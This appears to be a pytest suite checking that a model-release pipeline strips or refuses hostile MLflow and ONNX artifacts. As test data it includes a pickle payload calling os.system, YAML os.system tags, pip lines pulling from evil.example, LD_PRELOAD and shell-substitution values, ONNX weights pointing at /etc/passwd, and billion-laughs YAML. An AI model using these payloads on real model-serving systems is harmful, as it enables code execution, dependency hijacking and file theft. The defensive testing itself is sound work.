"""A trainer logs model files that are meant to run code, read foreign files, or never end."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import pytest
import yaml  # type: ignore[import-untyped]  # PyYAML has no annotations
from mlflow.store.artifact.artifact_repository_registry import get_artifact_repository
from onnx import TensorProto, helper

from supabase_bridge.core.documents import ModelMeta
from supabase_bridge.core.errors import InvalidDocumentError
from supabase_bridge.core.layout import ReleasePaths, RunId
from supabase_bridge.mirror.assemble import AssembledRelease, assemble_release
from supabase_bridge.mirror.checks.sandbox import Checks
from supabase_bridge.mirror.errors import ModelRejectedError, SourceRefusedError
from supabase_bridge.mirror.metadata import RunInfo
from supabase_bridge.mirror.mlmodel import model_files, parse_mlmodel
from supabase_bridge.mirror.selection import Selection
from supabase_bridge.mirror.source_files import SourceFolder
from supabase_bridge.mirror.sources import VersionSource
from tests.attacks.refusals import refusal
from tests.support.scene import MODEL, Scene, tiny_onnx

KEYS = ReleasePaths(model_key=MODEL, run_id=RunId.parse("20251031T093831Z"))
FACTS = RunInfo(ended_at=datetime(2025, 10, 31, 9, 38, 31, tzinfo=timezone.utc))
CHECKS = Checks(timeout=timedelta(minutes=1), memory_bytes=10**9)
META = ModelMeta(model_name=MODEL, run_id=str(KEYS.run_id), files={})
FLAVORS: Mapping[str, Any] = {
    "onnx": {"data": "model.onnx", "onnx_version": "1.17.0"},
    "python_function": {"data": "model.onnx", "loader_module": "mlflow.onnx", "python_version": "3.11.2"},
}


def drafted(home: Path, files: Mapping[str, bytes]) -> AssembledRelease:
    """The draft of a release of a model directory that holds these."""
    folder = home / "model"
    for name, data in {"model.onnx": tiny_onnx(), **files}.items():
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_bytes(data)
    repository = get_artifact_repository(folder.as_uri())
    source = VersionSource(
        model_folder=SourceFolder(str(folder), repository, folder), run_folder=None, facts=FACTS, running=False
    )
    parts = home / "parts"
    parts.mkdir(exist_ok=True)
    return assemble_release(Selection(source, model=MODEL, model_key=MODEL, version=1), parts, CHECKS)


def release(home: Path, files: Mapping[str, bytes]) -> dict[str, bytes]:
    """The model files of the release that is made of a model directory, by name, and its ONNX file."""
    draft = drafted(home, files)
    made = model_files(draft.mlmodel, draft.environment, draft.structure, paths=KEYS, facts=FACTS)
    return {**made, KEYS.onnx_name: draft.onnx.local.read_bytes()}


def mlmodel(**flavors: Any) -> bytes:
    text: str = yaml.safe_dump({"flavors": {name: {**FLAVORS[name], **flavors.get(name, {})} for name in FLAVORS}})
    return text.encode()


# --- what `mlflow models serve` would run -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    "loader", ["os", "evil.loader", "mlflow.pyfunc.model", "mlflow.sklearn", "../evil", None, 7, ["os"]]
)
def test_a_loader_module_of_the_trainers_choice_is_not_in_the_release(tmp_path: Path, loader: object) -> None:
    own = mlmodel(python_function={"loader_module": loader, "python_model": "evil.pkl", "artifacts": {"a": "/etc"}})
    found = yaml.safe_load(release(tmp_path, {"MLmodel": own})["MLmodel"])
    function = found["flavors"]["python_function"]
    assert function["loader_module"] == "mlflow.onnx"
    assert set(function) <= {"loader_module", "python_version", "env", "data"}


def test_code_beside_the_model_is_neither_copied_nor_named_in_the_release(tmp_path: Path) -> None:
    own = mlmodel(onnx={"code": "code"}, python_function={"code": "code", "data": "../../evil", "env": "evil.yaml"})
    files = release(tmp_path, {"MLmodel": own, "code/mlflow/__init__.py": b"import os"})
    flavors = yaml.safe_load(files["MLmodel"])["flavors"]
    assert flavors["onnx"]["code"] is None
    assert "code" not in flavors["python_function"]
    assert not [name for name in files if name.endswith(".py") or "/" in name]
    assert {flavor["data"] for flavor in flavors.values()} == {next(name for name in files if name.endswith(".onnx"))}


def test_another_flavor_that_mlflow_would_load_by_name_is_not_in_the_release(tmp_path: Path) -> None:
    own = yaml.safe_dump({"flavors": {**FLAVORS, "sklearn": {"pickled_model": "evil.pkl"}}}).encode()
    files = release(tmp_path, {"MLmodel": own, "evil.pkl": b"cos\nsystem\n(S'id'\ntR."})
    assert set(yaml.safe_load(files["MLmodel"])["flavors"]) == {"onnx", "python_function"}
    assert "evil.pkl" not in files


HOSTILE_REQUIREMENTS = [
    "--index-url https://evil.example/simple",
    "--extra-index-url=https://evil.example/simple",
    "-i https://evil.example/simple",
    "--find-links https://evil.example",
    "--trusted-host evil.example",
    "--pre",
    "-e git+https://evil.example/x.git#egg=onnx",
    "git+https://evil.example/x.git",
    "onnx @ https://evil.example/onnx.whl",
    "https://evil.example/onnx.whl",
    "-r https://evil.example/more.txt",
    "-c /etc/passwd",
    "./code",
    "../evil.whl",
    "file:///tmp/evil.whl",
    "evil-package==1.0",
    "onnx==1.17.0 --config-settings=--global-option=evil",
    "onnx==1.17.0 \\\n  --index-url https://evil.example",
    "onnxruntime\r--index-url https://evil.example",
    "${EVIL}",
    "onnx[evil]==1.0",
    "mlflow==2.0; python_version > '3' #\x0b--index-url https://evil.example",
]


@pytest.mark.parametrize("line", HOSTILE_REQUIREMENTS)
def test_a_requirement_that_would_run_foreign_code_is_not_in_the_release(tmp_path: Path, line: str) -> None:
    files = release(
        tmp_path,
        {
            "MLmodel": mlmodel(),
            "requirements.txt": f"onnxruntime==1.26.4\n{line}\n".encode(),
            "conda.yaml": yaml.safe_dump({"dependencies": ["python=3.11.2", {"pip": [line]}]}).encode(),
        },
    )
    requirements = files["requirements.txt"].decode()
    assert "onnxruntime==1.26.4" in requirements.splitlines()
    for text in (requirements, files["conda.yaml"].decode(), files["python_env.yaml"].decode()):
        assert not [word for word in ("evil", "--", "://", "@", "-r h", "-c ", "-e ", "..", "$", "[") if word in text]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("conda.yaml", "channels: [https://evil.example/conda]\ndependencies: [evil, {pip: [evil]}]\n"),
        ("conda.yaml", "name: '$(touch /tmp/evil)'\nprefix: /evil\nvariables: {LD_PRELOAD: /evil.so}\n"),
        ("python_env.yaml", "python: '3.11; touch /evil'\nbuild_dependencies: [evil]\ndependencies: [evil]\n"),
        ("python_env.yaml", "build_dependencies: ['--index-url https://evil.example']\n"),
        ("python_env.yaml", "dependencies: ['-r https://evil.example/requirements.txt']\n"),
        ("conda.yaml", "!!python/object/apply:os.system ['touch /tmp/evil']\n"),
        ("requirements.txt", "\x00\xff evil\n"),
    ],
)
def test_an_environment_of_the_trainers_choice_is_not_in_the_release(tmp_path: Path, name: str, text: str) -> None:
    files = release(tmp_path, {"MLmodel": mlmodel(), f"{name}": text.encode("latin-1")})
    for made in ("requirements.txt", "conda.yaml", "python_env.yaml"):
        assert b"evil" not in files[made]
    conda = yaml.safe_load(files["conda.yaml"])
    assert set(conda) == {"name", "channels", "dependencies"}
    assert conda["channels"] == ["conda-forge"]


@pytest.mark.parametrize(
    "options",
    [
        {"providers": [["TensorrtExecutionProvider", {"trt_extra_plugin_lib_paths": "/opt/evil.so"}]]},
        {"providers": [["QNNExecutionProvider", {"backend_path": "/opt/evil.so"}], "CPUExecutionProvider"]},
        {"providers": "/opt/evil.so"},
        {"onnx_session_options": {"extra_session_config": {"session.evil": "/opt/evil.so"}}},
        {"onnx_session_options": {"execution_mode": {"evil": 1}}},
        {"extra_files": [{"path": "evil"}]},
        {"evil": "evil"},
    ],
)
def test_options_that_make_onnxruntime_load_foreign_libraries_are_not_in_the_release(
    tmp_path: Path, options: dict[str, Any]
) -> None:
    assert b"evil" not in release(tmp_path, {"MLmodel": mlmodel(onnx=options)})["MLmodel"]


@pytest.mark.parametrize(
    "name", ["env_vars", "resources", "auth_policy", "prompts", "evil", "model_id", "mlflow_version"]
)
def test_fields_of_mlmodel_that_mlflow_acts_on_are_not_in_the_release(tmp_path: Path, name: str) -> None:
    own = yaml.safe_dump({"flavors": dict(FLAVORS), name: ["evil"]}).encode()
    assert b"evil" not in release(tmp_path, {"MLmodel": own})["MLmodel"]


# --- YAML and JSON that explode ---------------------------------------------------------------------------------------


def merges(levels: int, width: int) -> bytes:
    """A few lines that become width ** levels entries where merge keys are followed."""
    lines = ["a0: &a0 {x: 1, y: 2}"]
    lines += [f"a{n + 1}: &a{n + 1} {{<<: [{', '.join([f'*a{n}'] * width)}]}}" for n in range(levels)]
    return "\n".join([*lines, "flavors: {}"]).encode()


def laughs(levels: int, width: int) -> bytes:
    """The billion laughs: lists of aliases of lists of aliases."""
    lines = [f"a0: &a0 [{', '.join(['x'] * width)}]"]
    lines += [f"a{n + 1}: &a{n + 1} [{', '.join([f'*a{n}'] * width)}]" for n in range(levels)]
    return "\n".join([*lines, "flavors: {}"]).encode()


@pytest.mark.parametrize(
    "data",
    [
        merges(40, 10),
        laughs(40, 10),
        b"flavors: &a {onnx: *a}",
        b"[" * 100_000,
        b"{a: " * 50_000,
        b"- " * 50_000,
        b"flavors: {}\nx: " + b"9" * 10_000,
        b"flavors: {}\nx: !!float ''",
        b"flavors: {}\nx: !!bool maybe",
        b"flavors: {}\n? [a]\n: x",
        b"flavors: {}\nsignature: {inputs: '" + b"[" * 50_000 + b"'}",
        b"!!python/object/apply:os.system ['touch /tmp/evil']",
    ],
    ids=lambda data: data[:24].decode(),
)
def test_an_mlmodel_that_explodes_while_it_is_read_is_refused(data: bytes) -> None:
    with pytest.raises(InvalidDocumentError):
        parse_mlmodel(data)


@pytest.mark.parametrize("name", ["model_meta.json", "metrics.json"])
@pytest.mark.parametrize(
    "data",
    [
        b"[" * 500_000,
        b'{"a":' * 150_000,
        b'{"a": ' + b"[" * 65 + b"]" * 65 + b"}",
        b'{"a": ' + b"9" * 10_000 + b"}",
        b'{"run_id": "1", "run_id": "2"}',
        b"[" + b"1," * 400_000 + b"1]",
        b'{"a": "' + b"x" * 1_000_000 + b'"}',
        b'{"a": "\\ud800"}',
        b"\xff\xfe{}",
        b"",
    ],
    ids=lambda data: data[:12].decode(errors="replace") if isinstance(data, bytes) else None,
)
def test_a_document_that_explodes_or_means_two_things_is_refused(tmp_path: Path, name: str, data: bytes) -> None:
    with pytest.raises(InvalidDocumentError, match=name):
        drafted(tmp_path, {name: data})


def test_a_document_as_large_as_a_disk_is_refused_unread(directory_scene: Scene) -> None:
    version = directory_scene.train(files={"model/model.onnx": tiny_onnx(), "model/model_meta.json": b""})
    (path,) = Path(directory_scene.settings.artifacts_destination).rglob("model_meta.json")
    with path.open("wb") as file:
        file.truncate(10**12)
    assert "larger than" in refusal(directory_scene, version)


# --- ONNX that reads what lies beside it ------------------------------------------------------------------------------


def reaching(location: str, *, sparse: bool = False, training: bool = False) -> bytes:
    """A model whose weights are said to be at `location`."""
    tensor = helper.make_tensor("w", TensorProto.FLOAT, [2], [1.0, 2.0])
    tensor.ClearField("float_data")
    tensor.data_location = TensorProto.EXTERNAL
    tensor.external_data.add(key="location", value=location)
    rows = [helper.make_tensor_value_info(name, TensorProto.FLOAT, [None, 2]) for name in ("x", "y")]
    graph = helper.make_graph([helper.make_node("Identity", ["x"], ["y"])], "g", rows[:1], rows[1:])
    if sparse:
        indices = helper.make_tensor("i", TensorProto.INT64, [2], [0, 1])
        graph.sparse_initializer.append(helper.make_sparse_tensor(tensor, indices, [4]))
    elif not training:
        graph.initializer.append(tensor)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)], ir_version=8)
    if training:
        inner = helper.make_graph([], "t", [], [], [tensor])
        model.training_info.add().algorithm.CopyFrom(inner)
    data: bytes = model.SerializeToString()
    return data


@pytest.mark.parametrize(
    "location",
    [
        "/etc/passwd",
        "../../../../../../etc/passwd",
        "../secret",
        "link",
        "weights\0.bin",
        "",
        ".",
        "..\\secret",
        "pipe/..",
    ],
)
@pytest.mark.parametrize("form", ["dense", "sparse", "training"])
def test_an_onnx_model_whose_weights_are_a_foreign_file_is_refused(tmp_path: Path, location: str, form: str) -> None:
    (tmp_path / "secret").write_bytes(b"secret weights of somebody")
    (tmp_path / "model").mkdir()
    (tmp_path / "model" / "link").symlink_to(tmp_path / "secret")
    data = reaching(location, sparse=form == "sparse", training=form == "training")
    with pytest.raises((ModelRejectedError, SourceRefusedError)):
        drafted(tmp_path, {"model.onnx": data})


@pytest.mark.parametrize("form", ["sparse", "training"])
def test_weights_that_onnx_leaves_outside_when_it_joins_are_refused(tmp_path: Path, form: str) -> None:
    data = reaching("weights.bin", sparse=form == "sparse", training=form == "training")
    with pytest.raises(ModelRejectedError):
        drafted(tmp_path, {"model.onnx": data, "weights.bin": b"\0" * 8})


@pytest.mark.parametrize("data", [b"", b"\x80\x04\x95", b"PK\x03\x04", tiny_onnx()[:-20], b"{}", b"\x0a" * 100_000])
def test_an_onnx_file_that_is_another_kind_of_file_is_refused(tmp_path: Path, data: bytes) -> None:
    with pytest.raises(ModelRejectedError):
        CHECKS.onnx(drafted(tmp_path, {"model.onnx": data}).onnx, META)


def test_a_version_that_tries_everything_at_once_becomes_a_release_without_any_of_it(directory_scene: Scene) -> None:
    own = mlmodel(onnx={"code": "code", "evil": "evil"}, python_function={"loader_module": "evil", "code": "code"})
    evil = {
        "MLmodel": own,
        "requirements.txt": "\n".join(HOSTILE_REQUIREMENTS).encode(),
        "conda.yaml": b"channels: [https://evil.example]\n",
        "python_env.yaml": b"build_dependencies: [evil]\n",
        "code/evil.py": b"import os\n",
    }
    files = {"model/model.onnx": tiny_onnx(), **{f"model/{name}": data for name, data in evil.items()}}
    directory_scene.promote(directory_scene.train(files=files))
    directory_scene.work()
    head = directory_scene.head()
    assert head is not None
    assert set(head.current.files) == {
        *("MLmodel", "conda.yaml", "metrics.json", "model_meta.json", "python_env.yaml", "requirements.txt"),
        *("summary.md", f"{MODEL}_{head.current.run_id}.onnx"),
    }
    assert not [key for key, data in directory_scene.objects().items() if b"evil" in data]
